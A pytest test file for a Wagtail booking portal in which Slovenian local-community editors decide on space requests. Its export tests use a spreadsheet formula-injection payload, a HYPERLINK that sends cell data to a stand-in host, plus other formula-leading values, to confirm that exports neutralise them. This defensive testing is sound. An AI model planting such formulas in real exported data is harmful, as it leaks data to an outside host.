"""KS representatives decide on the requests for their own KS's spaces in the admin."""

import datetime

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from wagtail.models import WorkflowState

from portal.bookings import decisions, links
from portal.bookings.models import BookingRequest
from portal.events.models import EventPage
from portal.outbox.models import OutboxMessage
from tests import builders
from tests.builders import at

pytestmark = pytest.mark.django_db

DAY = builders.today() + datetime.timedelta(days=8)
LIST = "wagtailsnippets_bookings_bookingrequest:list"
INSPECT = "wagtailsnippets_bookings_bookingrequest:inspect"
EDIT = "wagtailsnippets_bookings_bookingrequest:edit"


def with_space(ks, name):
    """The KS and its space, open every day of the booked week from 8.00 to 22.00."""
    space = builders.space_with_hours(
        ks, f"Prostor {name}", weekly=[(DAY.weekday(), "08:00", "22:00")]
    )
    return ks, space


@pytest.fixture
def golnik_space(golnik_provisioned):
    return with_space(golnik_provisioned, "Golnik")


@pytest.fixture
def strazisce_space(strazisce_provisioned):
    return with_space(strazisce_provisioned, "Stražišče")


@pytest.fixture
def zlato_polje():
    """A KS whose publishing needs municipal approval."""
    ks = builders.provisioned("KS Zlato polje", slug="zlato-polje", requires_approval=True)
    return with_space(ks, "Zlato polje")


def request_for(space, purpose="Vaja zbora", start=17, end=19, is_public=True):
    return builders.booking_request(space, at(DAY, start), at(DAY, end), purpose, is_public)


@pytest.fixture
def ks_editor(golnik_space):
    return builders.ks_editor(golnik_space[0])


@pytest.fixture
def zlato_polje_editor(zlato_polje):
    return builders.ks_editor(zlato_polje[0], "ks-zlato-polje")


def test_a_ks_editor_lists_and_opens_only_their_own_ks_requests(
    client, golnik_space, strazisce_space, ks_editor
):
    own = request_for(golnik_space[1], "Vaja zbora Golnik")
    foreign = request_for(strazisce_space[1], "Vaja zbora Stražišče")
    client.force_login(ks_editor)
    listing = client.get(reverse(LIST)).content.decode()
    assert "Vaja zbora Golnik" in listing
    assert "Vaja zbora Stražišče" not in listing
    assert client.get(reverse(INSPECT, args=[own.pk])).status_code == 200
    for url in (reverse(INSPECT, args=[foreign.pk]), reverse(EDIT, args=[foreign.pk])):
        assert client.get(url).status_code == 404
    assert client.get(reverse(INSPECT, args=[foreign.pk + 1000])).status_code == 404
    refused = client.post(reverse(INSPECT, args=[foreign.pk]), {"decision": "approve"})
    assert refused.status_code == 404
    assert BookingRequest.objects.get(pk=foreign.pk).is_pending


def test_no_one_adds_a_request_in_the_admin(client, golnik_space, municipal):
    client.force_login(municipal)
    add_url = reverse("wagtailsnippets_bookings_bookingrequest:add")
    response = client.get(add_url)
    assert response.status_code in (302, 403)
    assert add_url not in client.get(reverse(LIST)).content.decode()


def test_the_municipal_editor_sees_every_ks(client, golnik_space, strazisce_space, municipal):
    request_for(golnik_space[1], "Vaja zbora Golnik")
    request_for(strazisce_space[1], "Vaja zbora Stražišče")
    client.force_login(municipal)
    listing = client.get(reverse(LIST)).content.decode()
    assert "Vaja zbora Golnik" in listing and "Vaja zbora Stražišče" in listing
    filtered = client.get(reverse(LIST), {"status": "pending", "community": golnik_space[0].pk})
    assert "Vaja zbora Stražišče" not in filtered.content.decode()


def test_approving_marks_the_dates_taken_and_tells_the_requester(
    client, golnik_space, ks_editor, sent_mail
):
    booking = request_for(golnik_space[1])
    client.force_login(ks_editor)
    page = client.get(reverse(INSPECT, args=[booking.pk])).content.decode()
    assert "ana@example.org" in page
    assert "Prostor je v tem času prost in odprt." in page
    response = client.post(
        reverse(INSPECT, args=[booking.pk]),
        {"decision": "approve", "message": "Ključ je pri hišniku."},
    )
    assert response.status_code == 302
    booking.refresh_from_db()
    assert booking.is_approved and booking.decided_by == ks_editor
    assert booking.dates.get().approved
    mail = sent_mail()
    assert "odobren" in mail[-1].subject
    assert "Ključ je pri hišniku." in mail[-1].body
    assert EventPage.objects.count() == 0


def test_approving_an_overlapping_request_is_refused_naming_the_clash(
    client, golnik_space, ks_editor
):
    first = request_for(golnik_space[1], "Vaja zbora")
    second = request_for(golnik_space[1], "Rojstni dan", start=18, end=20)
    client.force_login(ks_editor)
    client.post(reverse(INSPECT, args=[first.pk]), {"decision": "approve"})
    response = client.post(reverse(INSPECT, args=[second.pk]), {"decision": "approve"})
    assert response.status_code == 409
    html = response.content.decode()
    assert "prostor je že zaseden od 17.00 do 19.00 (Vaja zbora)" in html
    assert BookingRequest.objects.get(pk=second.pk).is_pending


def test_an_approval_is_saved_and_told_later_when_the_mail_server_is_down(
    client, golnik_space, ks_editor, settings, sent_mail
):
    settings.OUTBOX_EMAIL_BACKEND = "tests.mail_backends.RefusedBackend"
    booking = request_for(golnik_space[1])
    client.force_login(ks_editor)
    response = client.post(
        reverse(INSPECT, args=[booking.pk]),
        {"decision": "approve", "message": "Ključ je pri hišniku."},
    )
    assert response.status_code == 302
    booking.refresh_from_db()
    assert booking.is_approved and booking.dates.get().approved
    assert not sent_mail()
    [waiting] = OutboxMessage.objects.filter(subject__contains="odobren")
    assert waiting.status == "queued"
    assert "Connection refused" in waiting.last_error


def test_a_refused_approval_sends_no_mail(client, golnik_space, ks_editor):
    first = request_for(golnik_space[1], "Vaja zbora")
    second = request_for(golnik_space[1], "Rojstni dan", start=18, end=20)
    client.force_login(ks_editor)
    client.post(reverse(INSPECT, args=[first.pk]), {"decision": "approve"})
    written = OutboxMessage.objects.count()
    response = client.post(reverse(INSPECT, args=[second.pk]), {"decision": "approve"})
    assert response.status_code == 409
    assert OutboxMessage.objects.count() == written


def test_an_approval_that_postgresql_ends_in_a_deadlock_is_tried_again(
    client, golnik_space, ks_editor, monkeypatch, sent_mail
):
    """Two approvals marking overlapping dates at the same moment can each wait for the
    other's check against the exclusion constraint; PostgreSQL then ends one with a
    deadlock error (seen in CI). That one is tried once more instead of failing."""
    import psycopg
    from django.db import OperationalError

    from portal.bookings import decisions

    booking = request_for(golnik_space[1])
    decide = decisions.decide
    calls = []

    def deadlocked_once(*args, **kwargs):
        calls.append(args)
        if len(calls) == 1:  # as Django raises what psycopg reports
            cause = psycopg.errors.DeadlockDetected("deadlock detected")
            raise OperationalError("deadlock detected") from cause
        return decide(*args, **kwargs)

    monkeypatch.setattr(decisions, "decide", deadlocked_once)
    client.force_login(ks_editor)
    response = client.post(reverse(INSPECT, args=[booking.pk]), {"decision": "approve"})
    assert response.status_code == 302
    assert len(calls) == 2
    booking.refresh_from_db()
    assert booking.is_approved
    assert booking.dates.get().approved
    mail = sent_mail()
    assert [m.subject for m in mail].count(mail[-1].subject) == 1
    assert "odobren" in mail[-1].subject


def test_approval_can_publish_the_booking_in_the_ks_calendar(client, golnik_space, ks_editor):
    booking = request_for(golnik_space[1], "Delavnica šivanja")
    client.force_login(ks_editor)
    page = client.get(reverse(INSPECT, args=[booking.pk])).content.decode()
    assert "Objavi kot dogodek v koledarju KS" in page
    assert "odobrijo občinski uredniki" not in page
    response = client.post(
        reverse(INSPECT, args=[booking.pk]),
        {"decision": "approve", "publish_event": "on"},
        follow=True,
    )
    assert "objavljen kot dogodek v koledarju KS" in response.content.decode()
    event = EventPage.objects.get()
    assert event.title == "Delavnica šivanja" and event.live
    assert event.space_id == golnik_space[1].pk
    assert event.get_parent().get_parent().pk == golnik_space[0].pk
    client.logout()
    assert client.get(event.url).status_code == 200
    assert "Delavnica šivanja" in public_event_titles(client, golnik_space[0])
    week = client.get(
        golnik_space[1].url + "zasedenost/", {"teden": DAY.isoformat()}
    ).content.decode()
    assert week.count("Delavnica šivanja") == 1  # the event shows it, not twice


def public_event_titles(client, ks):
    """The event titles anyone may read of `ks`: in the API's events and pages, its
    calendar, the search and the sitemap (by slug), and its calendar feed."""
    events = client.get("/api/v2/events/", {"community": ks.slug}).json()["items"]
    pages = client.get("/api/v2/pages/", {"type": "events.EventPage", "limit": 100}).json()
    calendar = client.get(f"{ks.url}dogodki/").content.decode()
    found = client.get("/iskanje/", {"q": "šivanja"}).content.decode()
    sitemap = client.get("/sitemap.xml").content.decode()
    feed = client.get(f"/koledar/ks/{ks.slug}.ics").content.decode()
    return {
        *(item["title"] for item in events),
        *(item["title"] for item in pages["items"]),
        *(title for title in ["Delavnica šivanja"] if title in calendar + found + feed),
        *(["Delavnica šivanja"] if "delavnica-sivanja" in sitemap else []),
    }


def test_under_municipal_approval_a_bookings_event_waits_for_the_municipal_editors(
    client, zlato_polje, zlato_polje_editor, municipal
):
    """A KS whose publishing needs municipal approval cannot publish a requester's text
    through a booking: its event is a draft submitted to the KS's approval workflow."""
    ks, space = zlato_polje
    booking = request_for(space, "Delavnica šivanja")
    client.force_login(zlato_polje_editor)
    page = client.get(reverse(INSPECT, args=[booking.pk])).content.decode()
    assert "Objave v tej KS odobrijo občinski uredniki" in page
    response = client.post(
        reverse(INSPECT, args=[booking.pk]),
        {"decision": "approve", "publish_event": "on"},
        follow=True,
    )
    booking.refresh_from_db()
    assert booking.is_approved and booking.dates.get().approved
    event = EventPage.objects.get()
    assert booking.event == event and not event.live
    assert event.title == "Delavnica šivanja"
    state = WorkflowState.objects.get(object_id=str(event.pk))
    assert state.status == WorkflowState.STATUS_IN_PROGRESS
    assert state.requested_by == zlato_polje_editor
    assert "poslan v odobritev občinskim urednikom" in response.content.decode()

    client.logout()
    assert client.get(event.url).status_code == 404
    assert "Delavnica šivanja" not in public_event_titles(client, ks)
    week = client.get(space.url + "zasedenost/", {"teden": DAY.isoformat()}).content.decode()
    assert "Delavnica šivanja" not in week
    assert "zasedeno" in week

    client.force_login(municipal)
    assert "Delavnica šivanja" in client.get(reverse("wagtailadmin_home")).content.decode()
    approve = reverse(
        "wagtailadmin_pages:workflow_action",
        args=[event.pk, "approve", state.current_task_state.pk],
    )
    assert client.post(approve, {"comment": ""}).status_code in (200, 302)
    event.refresh_from_db()
    assert event.live
    client.logout()
    assert client.get(event.url).status_code == 200
    assert "Delavnica šivanja" in public_event_titles(client, ks)


def test_under_municipal_approval_a_municipal_editor_publishes_a_bookings_event(
    client, zlato_polje, municipal
):
    ks, space = zlato_polje
    booking = request_for(space, "Delavnica šivanja")
    client.force_login(municipal)
    response = client.post(
        reverse(INSPECT, args=[booking.pk]),
        {"decision": "approve", "publish_event": "on"},
        follow=True,
    )
    assert "objavljen kot dogodek v koledarju KS" in response.content.decode()
    assert EventPage.objects.get().live
    assert not WorkflowState.objects.exists()


def test_cancelling_a_booking_withdraws_its_event_from_approval(
    client, zlato_polje, zlato_polje_editor, municipal
):
    """The municipal editors are not left to approve the event of a cancelled booking."""
    ks, space = zlato_polje
    booking = request_for(space, "Delavnica šivanja")
    client.force_login(zlato_polje_editor)
    client.post(reverse(INSPECT, args=[booking.pk]), {"decision": "approve", "publish_event": "on"})
    client.logout()
    booking.refresh_from_db()
    cancel = client.post(links.cancel_url(booking))
    assert cancel.status_code in (200, 302)
    booking.refresh_from_db()
    assert booking.status == BookingRequest.Status.CANCELLED
    state = WorkflowState.objects.get(object_id=str(booking.event_id))
    assert state.status == WorkflowState.STATUS_CANCELLED
    client.force_login(municipal)
    assert "Delavnica šivanja" not in client.get(reverse("wagtailadmin_home")).content.decode()
    assert not EventPage.objects.get().live


def test_under_municipal_approval_the_week_view_names_no_approved_booking(client, zlato_polje):
    """What a requester typed reaches the public of a KS under approval only through an
    event the municipality approved."""
    ks, space = zlato_polje
    decisions.approve(request_for(space, "Vaja zbora"), None)
    week = client.get(space.url + "zasedenost/", {"teden": DAY.isoformat()}).content.decode()
    assert "Vaja zbora" not in week
    assert "zasedeno" in week


def test_declining_needs_a_message_and_sends_it(client, golnik_space, ks_editor, sent_mail):
    booking = request_for(golnik_space[1])
    client.force_login(ks_editor)
    refused = client.post(reverse(INSPECT, args=[booking.pk]), {"decision": "decline"})
    assert refused.status_code == 400
    assert "Prosilcu povejte, zakaj." in refused.content.decode()
    client.post(
        reverse(INSPECT, args=[booking.pk]),
        {"decision": "decline", "message": "Ta dan je prostor oddan za volitve."},
    )
    booking.refresh_from_db()
    assert booking.status == BookingRequest.Status.DECLINED
    mail = sent_mail()
    assert "zavrnjen" in mail[-1].subject
    assert "volitve" in mail[-1].body


def test_declining_or_cancelling_a_request_passes_none_of_its_text_on(
    client, golnik_space, ks_editor, sent_mail
):
    """A request may be spam sent to a stranger's address: refusing it must not relay it."""
    spam = [
        request_for(golnik_space[1], "Kupite poceni zdravila na http://spam.example", start=h)
        for h in (9, 12)
    ]
    client.force_login(ks_editor)
    client.post(
        reverse(INSPECT, args=[spam[0].pk]),
        {"decision": "decline", "message": "Zahtevek je zavrnjen kot neželena pošta."},
    )
    client.post(
        reverse(INSPECT, args=[spam[1].pk]), {"decision": "cancel", "message": "Neželena pošta."}
    )
    mail = sent_mail()
    assert ["zavrnjen" in mail[-2].subject, "preklican" in mail[-1].subject] == [True, True]
    assert "neželena pošta" in mail[-2].body
    assert not [m for m in mail if "spam.example" in m.subject + m.body]


def test_cancelling_an_approved_request_frees_the_time(client, golnik_space, ks_editor):
    booking = request_for(golnik_space[1])
    decisions.approve(booking, ks_editor)
    client.force_login(ks_editor)
    client.post(
        reverse(INSPECT, args=[booking.pk]),
        {"decision": "cancel", "message": "Prostor se obnavlja."},
    )
    booking.refresh_from_db()
    assert booking.status == BookingRequest.Status.CANCELLED
    assert not booking.dates.get().approved
    assert request_for(golnik_space[1], "Sestanek").pk
    decisions.approve(BookingRequest.objects.get(purpose="Sestanek"), ks_editor)


def test_the_listing_runs_a_fixed_number_of_queries(
    client, golnik_space, municipal, django_assert_max_num_queries
):
    for number in range(3):
        request_for(golnik_space[1], f"Sestanek {number}", start=8 + 2 * number, end=9 + 2 * number)
    client.force_login(municipal)
    client.get(reverse(LIST))
    with CaptureQueriesContext(connection) as few:
        client.get(reverse(LIST))
    count = len(few)
    assert count <= 20
    for number in range(3, 13):
        request_for(golnik_space[1], f"Sestanek {number}", start=8, end=9)
    client.get(reverse(LIST))  # new rows renew the content version: the site is read again
    with django_assert_max_num_queries(count):
        client.get(reverse(LIST))


def test_a_space_moved_to_another_ks_takes_its_requests_along(golnik_space, strazisce_space):
    booking = request_for(golnik_space[1])
    golnik_space[1].move(strazisce_space[0], pos="last-child")
    booking.refresh_from_db()
    assert booking.community_id == strazisce_space[0].pk


HOSTILE = '=HYPERLINK("http://zlo.example/?"&A1;"Kliknite")'


def exported_rows(client, export):
    """The rows of the listing's CSV or XLSX file, as a spreadsheet reads its cells."""
    import csv
    import io

    import openpyxl

    response = client.get(reverse(LIST), {"export": export})
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if export == "csv":
        return list(csv.reader(io.StringIO(content.decode())))
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    for row in sheet.iter_rows(min_row=2):
        assert all(cell.data_type != "f" for cell in row)
    return [["" if value is None else str(value) for value in row] for row in sheet.values]


@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_the_export_cannot_carry_a_formula_into_a_spreadsheet(
    client, golnik_space, municipal, export
):
    """What a requester typed is written as text: a cell that a spreadsheet would read as
    a formula gets a leading single quote (OWASP), the rest is left as typed."""
    booking = request_for(golnik_space[1], HOSTILE)
    BookingRequest.objects.filter(pk=booking.pk).update(
        organisation="+SUM(1;2)", name="@Ana", phone="-1+1", email="\tana@example.org"
    )
    client.force_login(municipal)
    heading, row = exported_rows(client, export)
    cells = dict(zip(heading, row, strict=True))
    assert cells["Namen"] == "'" + HOSTILE
    assert cells["Organizacija"] == "'+SUM(1;2)"
    assert cells["Ime in priimek"] == "'@Ana"
    assert cells["Telefon"] == "'-1+1"
    assert cells["E-pošta"] == "'\tana@example.org"
    assert cells["Prostor"] == "Prostor Golnik"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


def test_the_csv_quotes_every_cell_so_a_semicolon_starts_no_new_cell(
    client, golnik_space, municipal
):
    """A spreadsheet set to split on `;` (as Slovenian Excel is) must not find a formula
    after a semicolon in a cell."""
    request_for(golnik_space[1], "Vaja;=1+1")
    client.force_login(municipal)
    response = client.get(reverse(LIST), {"export": "csv"})
    content = b"".join(response.streaming_content).decode()
    assert '"Vaja;=1+1"' in content
    for line in content.splitlines():
        assert line.startswith('"') and line.endswith('"')
